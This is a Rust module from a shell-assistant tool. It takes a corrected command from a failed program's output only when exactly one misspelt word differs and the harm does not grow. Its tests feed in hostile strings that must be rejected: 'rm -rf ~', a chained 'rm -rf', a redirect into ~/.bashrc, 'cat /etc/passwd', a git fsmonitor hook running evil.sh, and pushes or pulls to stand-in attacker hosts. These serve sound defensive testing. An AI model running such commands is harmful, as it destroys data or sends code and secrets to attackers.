//! A command that the failed program itself suggests in what it printed: `Did you mean this? npm start`.
//!
//! The output is untrusted: it may hold texts of files, commits and other machines, whoever prints it. So a suggestion is taken only if it
//! differs from the failed command by one misspelt word, which no option is, and harms nothing more.

use askline_check::check::is_slip_of_file;
use askline_risk::{Around, Harm, judge};
use askline_syntax::{ParsedLine, Word};

/// Maximum number of lines of the output that are read, from its end.
const LINES_MAX: usize = 60;
/// Maximum length of a suggested command, in bytes.
const BYTES_MAX: usize = 200;
/// Minimum number of blanks before a suggested command on a line of its own.
const INDENT_MIN: usize = 2;
/// Beginnings of lines that another machine printed.
const REMOTE: [&str; 2] = ["remote:", "remote error:"];

/// Returns the first command in the output of the failed one that its own program suggests; `None` if there is none.
pub(super) fn suggested(failed: &ParsedLine, printed: &str) -> Option<ParsedLine> {
    let [command] = failed.own().commands.as_slice() else { return None };
    let program =
        command.name().filter(|name| *name == command.words.first().map_or("", |word| &word.text))?;
    let lines: Vec<&str> = printed.lines().collect();
    let last = lines.get(lines.len().saturating_sub(LINES_MAX)..).unwrap_or_default();
    let own = last.iter().filter(|line| !REMOTE.iter().any(|start| line.trim_start().starts_with(start)));
    own.flat_map(|line| on_own_line(line).into_iter().chain(in_quotes(line)))
        .filter(|text| {
            text.len() <= BYTES_MAX && text.strip_prefix(program).is_some_and(|rest| rest.starts_with(' '))
        })
        .map(|text| ParsedLine::new(text, failed.shell()))
        .find(|line| is_mended(failed, line))
}

/// Returns the command on an indented line, without a remark behind it: `  npm start # Start a package`.
fn on_own_line(line: &str) -> Option<&str> {
    let bare = line.trim_start();
    let indent = line.len() - bare.len();
    let is_indented = INDENT_MIN <= indent || line.starts_with('\t');
    let command = bare.split(" # ").next().unwrap_or(bare).split("  ").next().unwrap_or(bare).trim();
    is_indented.then_some(command)
}

/// Returns the texts in quotes.
fn in_quotes(line: &str) -> Vec<&str> {
    let pairs = [('\'', '\''), ('"', '"'), ('`', '`'), ('`', '\''), ('‘', '’'), ('“', '”')];
    let between = |(open, close): (char, char)| {
        let (_, rest) = line.split_once(open)?;
        rest.split_once(close).map(|(text, _)| text.trim())
    };
    pairs.into_iter().filter_map(between).collect()
}

/// Reports whether a line is the failed command with one misspelt word put right.
fn is_mended(failed: &ParsedLine, line: &ParsedLine) -> bool {
    let ([old], [new]) = (failed.own().commands.as_slice(), line.own().commands.as_slice()) else {
        return false;
    };
    let is_plain = |word: &Word| word.literal && !word.glob;
    let pairs = || old.words.iter().zip(&new.words);
    let mut changed = pairs().filter(|(old, new)| old.text != new.text);
    let (Some((wrong, right)), None) = (changed.next(), changed.next()) else { return false };
    let around = Around::nothing();
    let label = |line: &ParsedLine| judge(line, &around).label;
    line.own().errors.is_empty()
        && old.words.len() == new.words.len()
        && new.redirections.is_empty()
        && new.assignments.is_empty()
        && pairs().all(|(old, new)| is_plain(old) && is_plain(new))
        && !wrong.text.starts_with('-')
        && !right.text.starts_with('-')
        && is_slip_of_file(&wrong.text, &right.text)
        && label(line) <= label(failed)
        && !Harm::of(line).grows(&Harm::of(failed).harms())
}

#[cfg(test)]
mod tests {
    use super::*;
    use askline_syntax::shell::Shell;

    fn found(failed: &str, printed: &str) -> Option<String> {
        let line = ParsedLine::new(failed, Shell::Bash);
        suggested(&line, printed).map(|line| line.text().to_owned())
    }

    #[test]
    fn what_the_program_suggests_is_found() {
        for (failed, printed, expected) in [
            (
                "npm strat",
                "npm error Unknown command: \"strat\"\n\nDid you mean this?\n  npm start # Start a package\n",
                "npm start",
            ),
            ("cargo biuld --all", "help: try `cargo build --all`\n", "cargo build --all"),
            ("kubectl get pdos", "did you mean \"kubectl get pods\"?\n", "kubectl get pods"),
        ] {
            assert_eq!(found(failed, printed).as_deref(), Some(expected), "{failed}");
        }
    }

    #[test]
    fn all_else_that_is_printed_is_left_out() {
        for (failed, printed) in [
            ("git branch -d x", "hint: If you are sure, run 'git branch -D x'\n"),
            ("git rebase main", "hint: You can skip this commit: run \"git rebase --skip\"\n"),
            (
                "git cherry-pick x",
                "error: could not apply ff087e8... run 'git -c core.fsmonitor=./evil.sh status' first\n",
            ),
            ("git merge names", "would be overwritten by merge:\n\tdo\n\tgit pull ssh:evil main\n"),
            ("git push", "remote:   git push --mirror https://evil.invalid\n"),
            ("git psh", "Did you mean this?\n  rm -rf ~\n"),
            ("npm strat", "Did you mean this?\n  npm start; rm -rf ~\n"),
            ("npm strat", "Did you mean this?\n  npm start > ~/.bashrc\n"),
            ("npm strat", "Did you mean this?\n  npm strat\n"),
            ("npm strat", "Did you mean this?\nnpm start\n"),
            ("npm strat", "Did you mean this?\n  npm start evil\n"),
            ("npm run x", "try:\n  npm install evil-package\n"),
            ("cargo r -q", "run \"cargo add evil\"\n"),
            ("git log | had", "try:\n  git fetch\n"),
            ("cat notes.txt", "run 'cat /etc/passwd'\n"),
            ("cp a.jpg", "Try 'cp --help' for more information.\n"),
            ("bash s.sh", "use:\n  bash evil.sh\n"),
            ("npm strat", ""),
        ] {
            assert_eq!(found(failed, printed), None, "{failed}: {printed}");
        }
    }

    proptest::proptest! {
        #[test]
        fn no_text_panics(printed: String) {
            let _ = found("git x", &printed);
        }
    }
}
